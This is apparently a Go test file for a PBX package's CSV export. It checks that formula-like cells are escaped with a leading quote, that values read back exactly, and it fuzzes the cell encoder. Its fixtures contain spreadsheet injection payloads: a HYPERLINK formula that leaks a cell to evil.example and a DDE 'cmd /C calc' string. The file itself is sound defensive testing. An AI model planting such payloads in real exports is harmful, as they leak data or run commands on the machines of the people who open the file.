package pbx

import (
	"bytes"
	"strings"
	"testing"
)

// TestCSVFormulasAreInert: every cell a spreadsheet would run is written
// with a leading quote, and reading it back gives the value exactly.
func TestCSVFormulasAreInert(t *testing.T) {
	rows := []Fields{
		{"cluster": "tpa1", "regexten": "6109", "name": `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
			"callerid": "+14155550123", "fullcontact": "@SUM(1+1)*cmd|' /C calc'!A0", "accountcode": "-2+3"},
		{"cluster": "tpa1", "regexten": "6110", "name": "'=already quoted", "fullcontact": "''+two quotes", "callerid": `"Ann" <+14155550124>`},
		{"cluster": "tpa1", "regexten": "6111", "name": "O'Brien", "fullcontact": "'plain quote"},
	}
	var buf bytes.Buffer
	cols := []string{"cluster", "regexten", "name", "callerid", "fullcontact", "accountcode"}
	if err := WriteCSV(&buf, cols, rows); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"'=HYPERLINK(`, "'+14155550123", "'@SUM(", "'-2+3", "''=already quoted", "'''+two quotes", "O'Brien", ",'plain quote"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("the CSV lacks %q:\n%s", want, buf.String())
		}
	}
	var got []Fields
	if err := ReadCSV(&buf, "x.csv", Extensions, func(r Row) error { got = append(got, r.Fields); return nil }); err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		if !got[i].Equal(rows[i]) {
			t.Errorf("row %d came back as %v, want %v", i, got[i], rows[i])
		}
	}
}

// FuzzCSVCell: the two directions are exact inverses, and no cell starts
// with a formula character.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"=1+1", "+14155550123", "'", "''-", "\t@x", "plain", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		c := CSVCell(v)
		if back := FromCSVCell(c); back != v {
			t.Fatalf("CSVCell(%q) = %q, back %q", v, c, back)
		}
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Fatalf("CSVCell(%q) = %q starts a formula", v, c)
		}
	})
}
